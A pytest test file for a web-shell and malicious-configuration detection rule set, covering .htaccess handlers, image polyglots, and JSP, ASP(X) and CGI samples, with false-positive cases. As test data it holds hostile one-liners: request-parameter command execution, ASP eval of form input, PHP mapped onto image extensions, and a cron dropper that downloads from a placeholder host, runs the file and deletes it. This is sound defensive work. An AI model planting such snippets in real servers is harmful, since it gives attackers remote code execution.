"""Server configuration, polyglot, JSP, ASP(X) and CGI rules, written as specifications."""

from __future__ import annotations

import re
from pathlib import Path

import pytest


def families(matches, severity=None):
    return {ns for ns, _rule, meta in matches if severity is None or meta["severity"] == severity}


def severities(matches):
    return {meta["severity"] for _ns, _rule, meta in matches}


GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
JPEG += bytes(range(256)) + b"\xff\xd9"


# --- server configuration -----------------------------------------------------


def test_htaccess_mapping_images_to_php_is_high(match_data):
    m = match_data("AddType application/x-httpd-php .jpg .gif\n", "/srv/www/uploads/.htaccess")
    assert "server_config" in families(m, "high")


def test_htaccess_content_is_ignored_in_files_not_named_htaccess(match_data):
    text = "AddType application/x-httpd-php .jpg\nSetHandler application/x-httpd-php\n"
    assert match_data(text, "/etc/apache2/conf-available/site.conf") == []


def test_sethandler_without_a_php_file_filter_is_high(match_data):
    m = match_data("SetHandler application/x-httpd-php\n", "/srv/www/files/.htaccess")
    assert "server_config" in families(m, "high")


def test_control_panel_php_handler_for_php_files_is_clean(match_data):
    text = (
        "<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php82 .php .php8 .phtml\n"
        "</IfModule>\n<FilesMatch \\.php$>\n  SetHandler application/x-httpd-php82\n</FilesMatch>\n"
    )
    assert match_data(text, "/home/u/public_html/.htaccess") == []


def test_sethandler_limited_to_php_files_is_clean_but_catch_all_is_high(match_data):
    php_only = "<Files *.php>\n  SetHandler application/x-httpd-php\n</Files>\n"
    assert match_data(php_only, "/srv/www/.htaccess") == []
    catch_all = '<FilesMatch ".*">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n'
    assert "server_config" in families(match_data(catch_all, "/srv/www/.htaccess"), "high")


def test_htaccess_that_disables_php_in_uploads_is_clean(match_data):
    text = (
        '<FilesMatch "\\.(php|phtml|phar)$">\n    Require all denied\n</FilesMatch>\n'
        "php_flag engine off\nOptions -ExecCGI\n"
    )
    assert match_data(text, "/var/www/html/wp-content/uploads/.htaccess") == []


def test_exec_cgi_is_high_in_an_upload_folder_and_medium_elsewhere(match_data):
    text = "Options +ExecCGI\nAddHandler cgi-script .pl .cgi\n"
    assert severities(match_data(text, "/var/www/html/uploads/.htaccess")) >= {"high"}
    assert severities(match_data(text, "/var/www/cgi-bin/.htaccess")) == {"medium"}


def test_auto_prepend_file_in_user_ini_is_high_and_none_is_clean(match_data):
    bad = match_data("auto_prepend_file = /home/u/public_html/x.php\n", "/home/u/public_html/.user.ini")
    assert "server_config" in families(bad, "high")
    assert match_data("auto_prepend_file = none\n", "/home/u/public_html/.user.ini") == []


def test_auto_prepend_of_a_data_uri_is_critical(match_data):
    m = match_data('php_value auto_prepend_file "data:;base64,PD9waHA="\n', "/x/.htaccess")
    assert "server_config" in families(m, "critical")


# --- polyglots ----------------------------------------------------------------


def test_php_after_a_gif_header_is_high_whatever_the_extension(match_data):
    for name in ("avatar.gif", "avatar.php", "avatar"):
        m = match_data(GIF + b"<?php echo 1; ?>", f"/var/www/html/uploads/{name}")
        assert "polyglot" in families(m, "high"), name


def test_php_code_in_a_file_with_image_extension_is_high(match_data):
    m = match_data("<?php include '/tmp/x'; ?>", "/var/www/html/favicon_3a7f.ico")
    assert "polyglot" in families(m, "high")


def test_double_extension_php_jpg_with_php_is_high(match_data):
    m = match_data("<?php echo 1;", "/var/www/html/uploads/shell.php.jpg")
    assert "polyglot" in families(m, "high")


def test_plain_images_are_clean(match_data):
    assert match_data(GIF, "/var/www/html/uploads/a.gif") == []
    assert match_data(JPEG, "/var/www/html/uploads/a.jpg") == []


def test_php_example_in_a_readme_is_clean(match_data):
    text = "Usage:\n\n<?php\nadd_filter('the_content', 'f');\n"
    assert match_data(text, "/var/www/html/wp-content/plugins/p/readme.txt") == []


# --- JSP / ASP(X) / CGI -------------------------------------------------------


def test_jsp_running_a_request_parameter_is_critical(match_data):
    text = '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    assert "jsp" in families(match_data(text, "/opt/tomcat/webapps/ROOT/x.jsp"), "critical")


def test_jsp_echoing_a_parameter_is_clean(match_data):
    text = '<% String q = request.getParameter("q"); %><p><%= q.length() %></p>'
    assert match_data(text, "/opt/tomcat/webapps/ROOT/search.jsp") == []


@pytest.mark.parametrize(
    "text",
    [
        '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>',
        '<%eval request("p")%>',
        '<%ExecuteGlobal(Request.Form("c"))%>',
    ],
)
def test_asp_evaluating_the_request_is_critical(match_data, text):
    assert "aspx" in families(match_data(text, "C:/inetpub/wwwroot/a.aspx"), "critical")


def test_aspx_reading_form_fields_is_clean(match_data):
    text = '<%@ Page Language="C#" %><% var n = Server.HtmlEncode(Request.Form["n"]); %>'
    assert match_data(text, "C:/inetpub/wwwroot/c.aspx") == []


def test_perl_cgi_running_a_parameter_is_critical(match_data):
    text = "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint `$q->param('c')`;\nsystem($q->param('c'));\n"
    assert "cgi" in families(match_data(text, "/usr/lib/cgi-bin/x.cgi"), "critical")


def test_python_command_line_tool_using_subprocess_is_clean(match_data):
    text = "import subprocess, sys\nsubprocess.run(['ls', sys.argv[1]], check=True)\n"
    assert match_data(text, "/usr/local/bin/tool.py") == []


# --- one technique, one rule: each sample is caught by the rule written for it -------------

POSITIVE = Path(__file__).resolve().parent / "samples" / "positive"

TECHNIQUE_SAMPLES = {
    # classic ASP
    "aspx/critical-execute-request-variable.asp": "fim_aspx_execute_request_variable",
    "aspx/critical-xor-body-execute.asp": "fim_aspx_execute_request_variable",
    "aspx/high-execute-reversed-string.asp": "fim_aspx_execute_decoded_string",
    "aspx/high-eval-chr-assembly.asp": "fim_aspx_execute_decoded_string",
    "aspx/high-execute-packed-literal.asp": "fim_aspx_execute_packed_literal",
    "aspx/medium-script-encoded.asp": "fim_aspx_script_encoded",
    "aspx/high-fso-folder-from-request.asp": "fim_aspx_fso_browser",
    "aspx/high-adodb-stream-publisher.asp": "fim_aspx_request_content_to_file",
    "aspx/medium-remote-page-injector.asp": "fim_aspx_remote_page_injector",
    "aspx/critical-wscript-shell-classid.asp": "fim_aspx_wscript_shell_request",
    # ASP.NET
    "aspx/critical-jscript-eval-split-unsafe.aspx": "fim_aspx_jscript_eval",
    "aspx/critical-process-textbox-output.aspx": "fim_aspx_process_output_to_page",
    "aspx/high-process-variable-command.aspx": "fim_aspx_process_variable_command",
    "aspx/critical-process-start-concatenated.aspx": "fim_aspx_process_start_input",
    "aspx/critical-web-service-shell.asmx": "fim_aspx_process_start_input",
    "aspx/high-assembly-load-xor-bytes.aspx": "fim_aspx_assembly_load_bytes",
    "aspx/high-upload-to-textbox-path.aspx": "fim_aspx_upload_to_chosen_path",
    "aspx/critical-socket-tunnel.aspx": "fim_aspx_socket_tunnel",
    "aspx/critical-xslt-msxsl-script.aspx": "fim_aspx_xslt_script_exec",
    "aspx/critical-xslt-script-from-form.aspx": "fim_aspx_xslt_script_exec",
    "aspx/high-sql-console.aspx": "fim_aspx_sql_console",
    "aspx/high-reflective-process.aspx": "fim_aspx_reflective_process",
    "aspx/critical-runtime-compile.aspx": "fim_aspx_runtime_compile",
    "aspx/high-binaryread-to-file.asp": "fim_aspx_request_content_to_file",
    "aspx/high-upload-beside-itself.aspx": "fim_aspx_upload_beside_itself",
    "aspx/medium-hidden-link-blocks.asp": "fim_aspx_injected_spam_page",
    # JSP
    "jsp/critical-base64-class-define.jsp": "fim_jsp_embedded_class_bytes",
    "jsp/critical-page-context-request-exec.jsp": "fim_jsp_command_exec_request",
    "jsp/critical-class-loader-own-decoder.jsp": "fim_jsp_class_loader_from_request",
    "jsp/critical-beans-expression-runtime.jsp": "fim_jsp_reflective_command",
    "jsp/critical-reflection-process-cast.jsp": "fim_jsp_reflective_command",
    "jsp/critical-jndi-datasource.jsp": "fim_jsp_gadget_class_use",
    "jsp/critical-xmldecoder-request.jsp": "fim_jsp_gadget_class_use",
    "jsp/high-unicode-escaped.jsp": "fim_jsp_unicode_escaped_code",
    "jsp/high-entity-escaped.jspx": "fim_jsp_entity_escaped_scriptlet",
    "jsp/high-cdata-split.jspx": "fim_jsp_cdata_split_code",
    "jsp/critical-xslt-from-body.jsp": "fim_jsp_xslt_of_request",
    "jsp/critical-memory-filter-injection.jsp": "fim_jsp_memory_shell_injection",
    "jsp/medium-remote-page-injector.jsp": "fim_jsp_remote_page_injector",
    "jsp/critical-socket-tunnel.jsp": "fim_jsp_socket_tunnel",
    "jsp/critical-reverse-shell.jsp": "fim_jsp_reverse_shell",
    "jsp/high-sql-console.jsp": "fim_jsp_sql_console",
    "jsp/high-write-request-to-file.jsp": "fim_jsp_request_content_to_file",
    "jsp/high-utf16-runtime-exec.jsp": "fim_jsp_wide_encoded_code",
    # Perl / Python / shell
    "cgi/critical-perl-back-connect.pl": "fim_cgi_perl_socket_shell",
    "cgi/critical-python-reverse-shell.py": "fim_cgi_python_socket_shell",
    "cgi/critical-bash-dev-tcp.sh": "fim_cgi_shell_reverse_shell",
    "cgi/high-perl-uuencoded-data.pl": "fim_cgi_perl_uuencoded_payload",
    "cgi/high-perl-disguised-bot.pl": "fim_cgi_perl_disguised_bot",
    "cgi/high-cron-download-run-delete.sh": "fim_cgi_shell_download_run_delete",
    "cgi/critical-perl-cgi-lib-readparse.cgi": "fim_cgi_perl_command_exec_request",
    "cgi/critical-sh-query-string-substitution.cgi": "fim_cgi_shell_script_command_exec",
    "cgi/high-perl-irc-bot.pl": "fim_cgi_irc_bot",
    "cgi/high-perl-padded-process-name.pl": "fim_cgi_perl_disguised_bot",
    "cgi/high-symlink-config-grabber.pl": "fim_cgi_symlink_config_grabber",
    "cgi/high-miner-dropper.sh": "fim_cgi_miner_dropper",
    "cgi/critical-sh-query-variable-run.cgi": "fim_cgi_shell_script_command_exec",
    "cgi/critical-python-star-import-shell.py": "fim_cgi_python_command_exec_request",
    "cgi/high-python-http-backdoor.py": "fim_cgi_python_http_backdoor",
}


@pytest.mark.parametrize(("sample", "rule"), sorted(TECHNIQUE_SAMPLES.items()))
def test_technique_sample_is_caught_by_the_rule_written_for_it(sample, rule, match_file):
    fired = {name for _ns, name, _meta in match_file(POSITIVE / sample)}
    assert rule in fired, fired


def test_every_non_php_rule_has_a_technique_sample():
    rules_dir = POSITIVE.parents[2].parent / "rules"
    declared = set()
    for stem in ("aspx", "jsp", "cgi"):
        text = (rules_dir / f"{stem}.yar").read_text()
        declared |= set(re.findall(r"^rule\s+(\w+)", text, re.M))
    covered = set(TECHNIQUE_SAMPLES.values()) | {
        "fim_aspx_eval_request",
        "fim_aspx_process_start_request",
        "fim_aspx_assembly_load_from_request",
        "fim_aspx_file_manager",
        "fim_aspx_command_shell_form",
        "fim_jsp_command_exec_request",
        "fim_jsp_class_loader_from_request",
        "fim_jsp_script_engine_eval_request",
        "fim_jsp_file_manager",
        "fim_cgi_python_command_exec_request",
    }
    assert declared <= covered, declared - covered


# --- false-positive classes seen on real applications --------------------------------------


def test_download_handler_with_a_filename_variable_from_the_query_is_clean(match_data):
    # "string FileName = context.Request.QueryString[...]" is a local variable, not a
    # ProcessStartInfo property: a download handler, not a process started from the request
    text = (
        '<%@ WebHandler Language="C#" Class="D" %>\n'
        "public class D : IHttpHandler { public void ProcessRequest(HttpContext context) {\n"
        '  string FileName = context.Request.QueryString["FileName"];\n'
        '  context.Response.WriteFile(context.Server.MapPath("~/f/" + FileName)); } }\n'
    )
    assert match_data(text, "C:/inetpub/wwwroot/Modules/Files/DownloadHandler.ashx") == []


def test_process_filename_property_from_the_request_is_still_critical(match_data):
    text = (
        '<%@ Page Language="C#" %><% var si = new System.Diagnostics.ProcessStartInfo();\n'
        'si.FileName = Request.QueryString["f"]; System.Diagnostics.Process.Start(si); %>'
    )
    assert "aspx" in families(match_data(text, "C:/inetpub/wwwroot/p.aspx"), "critical")


def test_browser_script_eval_in_a_csharp_user_control_is_clean(match_data):
    text = (
        '<%@ Control Language="C#" %>\n<script language="javascript">\n'
        "function d(s) { return eval(s); } var r = { JsonRequest: function (u) {} };\n</script>\n"
    )
    assert match_data(text, "C:/inetpub/wwwroot/Modules/Info/View.ascx") == []


@pytest.mark.parametrize(
    "line",
    [
        "conn.Execute(sql)",
        "Set rs = conn.Execute(BuildQuery(id))",
        'conn.Execute("DELETE FROM t WHERE id=" & Request("id"))',
    ],
)
def test_classic_asp_database_execute_is_not_code_execution(match_data, line):
    text = f'<%\nid = Request("id")\nsql = "SELECT 1"\n{line}\n%>\n'
    assert match_data(text, "C:/inetpub/wwwroot/report.asp") == []


def test_classic_asp_statement_execute_of_a_request_variable_is_critical(match_data):
    text = '<%\nx = Request("id")\nExecute x\n%>\n'
    assert "aspx" in families(match_data(text, "C:/inetpub/wwwroot/report.asp"), "critical")


def test_jsp_reading_runtime_memory_figures_is_clean(match_data):
    text = (
        '<% String f = request.getParameter("f"); long m = Runtime.getRuntime().freeMemory();'
        " out.print(f + m); %>"
    )
    assert match_data(text, "/opt/tomcat/webapps/ROOT/status.jsp") == []


def test_jsp_with_translated_unicode_strings_is_clean(match_data):
    text = '<%@ page pageEncoding="UTF-8" %><script>var t = "Enregistr\\u00e9 \\u4e2d\\u6587";</script>'
    assert match_data(text, "/opt/tomcat/webapps/ROOT/i18n.jsp") == []


def test_installer_script_that_downloads_runs_and_cleans_up_is_clean(match_data):
    text = (
        "#!/bin/sh\nset -e\necho 'Fetching installer'\n"
        "curl -fsSL -o /tmp/i.sh https://example.org/i.sh\n"
        "chmod +x /tmp/i.sh\nsh /tmp/i.sh\nrm -f /tmp/i.sh\n"
    )
    assert match_data(text, "/home/u/bin/setup.sh") == []


def test_silent_cron_dropper_that_downloads_runs_and_deletes_is_high(match_data):
    text = (
        "#!/bin/sh\nwget -q -O /tmp/.x http://example.invalid/x\nchmod +x /tmp/.x\n"
        "perl /tmp/.x\nrm -rf /tmp/.x\n"
    )
    assert "cgi" in families(match_data(text, "/home/u/public_html/cron.sh"), "high")


def test_perl_daemon_reopening_stdin_from_dev_null_is_clean(match_data):
    text = (
        "#!/usr/bin/perl\nuse IO::Socket::INET;\nexit 0 if fork;\nopen(STDIN, '</dev/null');\n"
        "open(STDERR, '>&STDOUT');\n$0 = 'queued: master';\n"
        "my $s = IO::Socket::INET->new(LocalPort => 7070, Listen => 5);\nwhile (my $c = $s->accept()) {}\n"
        "system('/bin/sh', '-c', 'logger started');\n"
    )
    assert match_data(text, "/usr/sbin/queued") == []


def test_php_file_with_an_asp_style_format_token_is_not_an_asp_page(match_data):
    text = (
        "<?php\nclass IsEqual {\n    public function evaluate($other, string $d = '')\n"
        "    {\n        return sprintf(' with delta <%F>', $this->delta);\n    }\n}\n"
    )
    assert match_data(text, "/usr/share/php/Lib/IsEqual.php") == []


def test_code_generator_compiling_its_own_template_is_clean(match_data):
    # a module builder compiles source it assembled itself from a few form fields
    text = (
        "// <%= header %>\nusing Microsoft.CSharp;\npublic partial class Maker {\n"
        "  void Build() { string name = txtName.Text; string src = Template(name);\n"
        "    var p = new CSharpCodeProvider(); p.CompileAssemblyFromSource(cp, src); } }\n"
    )
    assert match_data(text, "C:/inetpub/wwwroot/Modules/Maker/Maker.ascx.cs") == []


def test_admin_script_linking_users_public_git_folders_is_clean(match_data):
    text = (
        "#!/bin/sh\ncd /home\nfor a in * ; do [ -r $a/public_git ] && "
        "ln -s /home/$a/public_git /home/git/users/$a ; done\n"
        "NAME=`grep ^$UID: /etc/passwd | cut -f5 -d:`\n"
    )
    assert match_data(text, "/usr/share/doc/gitweb/examples/index-gen") == []


def test_csharp_page_calling_its_own_execute_method_is_clean(match_data):
    text = (
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void Page_Load(object s, EventArgs e) {\n  string id = Request["id"];\n'
        "  Execute(BuildQuery(id));\n  Execute(id);\n}\n</script>\n"
    )
    assert match_data(text, "C:/inetpub/wwwroot/orders.aspx") == []


def test_hosting_panel_config_template_with_symlinks_and_passwd_is_clean(match_data):
    text = (
        "<service><command>ln -s /etc/apache2/conf.d/froxlor.conf /etc/apache2/sites-enabled/</command>\n"
        "<command>chmod 0644 /etc/passwd</command>\n"
        '<file name="/var/www/panel/lib/config.php"/></service>\n'
    )
    assert match_data(text, "/var/www/panel/lib/configfiles/bookworm.xml") == []
